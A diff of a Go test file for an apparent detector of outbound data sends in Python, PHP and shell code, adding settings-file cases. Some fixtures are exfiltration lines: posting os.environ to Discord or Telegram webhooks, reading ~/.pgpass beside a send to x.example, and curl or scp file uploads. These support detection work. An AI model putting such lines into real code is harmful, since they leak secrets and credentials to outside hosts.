@@ -64,7 +64,7 @@ func TestFind(t *testing.T) {
 	for name, c := range findCases() {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			got := shownOf(Find(c.texts, nil, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }).Besides)
+			got := shownOf(Find(c.texts, nil, nil, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }).Besides)
 			if got != c.want {
 				t.Errorf("found %q, want %q", got, c.want)
 			}
@@ -84,7 +84,7 @@ func FuzzFind(f *testing.F) {
 			return
 		}
 		find := func() []Beside {
-			return Find([]Text{{chain.Text{File: "a", Source: source, Start: document.Position{Line: 1, Column: 1}}, Family(family)}}, nil, nil, func(string, string) {}).Besides
+			return Find([]Text{{chain.Text{File: "a", Source: source, Start: document.Position{Line: 1, Column: 1}}, Family(family)}}, nil, nil, nil, func(string, string) {}).Besides
 		}
 		found := find()
 		for _, one := range found {
@@ -104,7 +104,7 @@ func FuzzFind(f *testing.F) {
 func TestHook(t *testing.T) {
 	t.Parallel()
 	for address, want := range map[string]bool{"https://discord.com/api/webhooks/118443029117/abc": true, "https://api.telegram.org/bot123:ab": true, "https://discord.com/api/v10/users": false} {
-		got := Find([]Text{text("a.py", "import os, requests\nrequests.post('"+address+"', json=dict(os.environ))\n")}, nil, nil, nil).Besides
+		got := Find([]Text{text("a.py", "import os, requests\nrequests.post('"+address+"', json=dict(os.environ))\n")}, nil, nil, nil, nil).Besides
 		if len(got) != 1 || got[0].Send.Hook != want {
 			t.Errorf("%s: %+v, want hook %t", address, got, want)
 		}
@@ -121,7 +121,7 @@ func TestTime(t *testing.T) {
 	}
 	b.WriteString("requests.post('https://x.example/', data=f0(1, 2))\n" + strings.Repeat("(", 5000) + strings.Repeat("[\"", 5000))
 	begin := time.Now()
-	Find([]Text{text("a.py", b.String())}, nil, nil, func(string, string) {})
+	Find([]Text{text("a.py", b.String())}, nil, nil, nil, func(string, string) {})
 	if took := time.Since(begin); took > 20*time.Second {
 		t.Errorf("it took %s", took)
 	}
@@ -151,7 +151,7 @@ func TestTables(t *testing.T) {
 func TestPlainEval(t *testing.T) {
 	t.Parallel()
 	for code, want := range map[string]bool{"eval('return 1;');": true, "eval($code);": false, "eval('f($x);');": false, "eval(\"return $x;\");": false} {
-		got := Find([]Text{text("a.php", "<?php\n$p = file(getenv('HOME') . '/.pgpass');\n$n = str_word_count(file_get_contents('notes.txt'));\nfile_get_contents('https://x.example/?n=' . $n);\n"+code+"\n")}, nil, nil, nil).Besides
+		got := Find([]Text{text("a.php", "<?php\n$p = file(getenv('HOME') . '/.pgpass');\n$n = str_word_count(file_get_contents('notes.txt'));\nfile_get_contents('https://x.example/?n=' . $n);\n"+code+"\n")}, nil, nil, nil, nil).Besides
 		apart := len(got) == 0 || got[0].Apart
 		if apart != want {
 			t.Errorf("%s: %+v, want apart %t", code, got, want)
@@ -177,13 +177,22 @@ func TestSends(t *testing.T) {
 		"a clustered flag": {[]Text{text("a.sh", "curl -sT out.csv https://x.example/in\n")}, "x.example:1 body carries"},
 		"fails on errors":  {[]Text{text("a.sh", "curl -LsSf https://x.example/in\n")}, "x.example:1 body"},
 		"a copy of a file": {[]Text{text("a.sh", "scp out.csv me@x.example:/in\n")}, "x.example:1 file carries"},
+		"of a client":      {[]Text{text("a.py", "import boto3\ns3 = boto3.client('s3')\ns3.put_object(Bucket='quill-year', Key=k, Body=b)\n")}, "quill-year:3 body carries"},
+		"by its bucket":    {[]Text{text("a.py", "from google.cloud import storage\nbucket = storage.Client().bucket('quill-year')\nbucket.blob(n).upload_from_filename(f)\n")}, "quill-year:3 client carries"},
+		"of a server":      {[]Text{text("a.py", "import redis\nr = redis.Redis(host='mq.x.example')\nr.publish('in', v)\n")}, "mq.x.example:3 client carries"},
+		"in a list":        {[]Text{text("a.py", "rows = []\nrows.append({'bucket': 'quill-year'})\n")}, ""},
+		"in the path":      {[]Text{text("a.py", "import requests\nrequests.get(f'https://x.example/{v}')\n")}, "x.example:2 body carries"},
+		"a release":        {[]Text{text("a.sh", "curl -fsSL https://x.example/v$V/a.tgz -o a.tgz\n")}, "x.example:1 body"},
 		"nothing is sent":  {[]Text{text("a.py", "print('https://x.example/in')\n")}, ""},
 		"each place once":  {[]Text{text("a.py", "import b\nimport requests\nrequests.post('https://x.example/in', data=b'1')\n"), text("b.py", "import a\n")}, "x.example:3 body carries"},
 	} {
 		t.Run(name, func(t *testing.T) {
-			sends := Find(c.texts, nil, nil, func(string, string) {}).Sends
+			sends := Find(c.texts, nil, nil, nil, func(string, string) {}).Sends
 			var all []string
 			for _, one := range sends {
+				for _, to := range one.Tenants {
+					one.Hosts = append(one.Hosts, to.Name)
+				}
 				shown := fmt.Sprintf("%s:%d %s", strings.Join(one.Hosts, ","), one.Span.Start.Line, one.Way)
 				if one.Carries {
 					shown += " carries"
@@ -191,6 +200,35 @@ func TestSends(t *testing.T) {
 				all = append(all, shown)
 			}
 			if got := strings.Join(all, "; "); got != c.want {
+				t.Errorf("%q, want %q", got, c.want)
+			}
+		})
+	}
+}
+
+// TestSettings: whom a program sends to stands in a file of settings that it names.
+func TestSettings(t *testing.T) {
+	t.Parallel()
+	for name, c := range map[string]struct{ program, file, text, want string }{
+		"a key":             {"import json, requests\ncfg = json.load(open('cfg.json'))\nrequests.post(cfg['intake'], json={'n': 1})\n", "cfg.json", "{\"intake\": \"https://x.example/in\"}", "x.example"},
+		"another key":       {"import json, requests\ncfg = json.load(open('cfg.json'))\nrequests.post(cfg['intake'], json={'n': 1})\n", "cfg.json", "{\"docs\": \"https://x.example/in\"}", ""},
+		"of an environment": {"import os, requests\nfrom dotenv import load_dotenv\nload_dotenv()\nrequests.post(os.environ['INTAKE'], json={'n': 1})\n", ".env", "INTAKE=https://x.example/in\n", "x.example"},
+		"a text":            {"import requests\nrequests.post(open('place.txt').read().strip(), json={'n': 1})\n", "place.txt", "https://x.example/in\n", "x.example"},
+		"a file not named":  {"import sys, requests\nrequests.post(sys.argv[1], json={'n': 1})\n", "place.txt", "https://x.example/in\n", ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			settings := func(file string) []byte {
+				if file == c.file {
+					return []byte(c.text)
+				}
+				return nil
+			}
+			got := ""
+			for _, one := range Find([]Text{text("a.py", c.program)}, nil, settings, nil, func(string, string) {}).Sends {
+				got += strings.Join(one.Hosts, " ")
+			}
+			if got != c.want {
 				t.Errorf("%q, want %q", got, c.want)
 			}
 		})
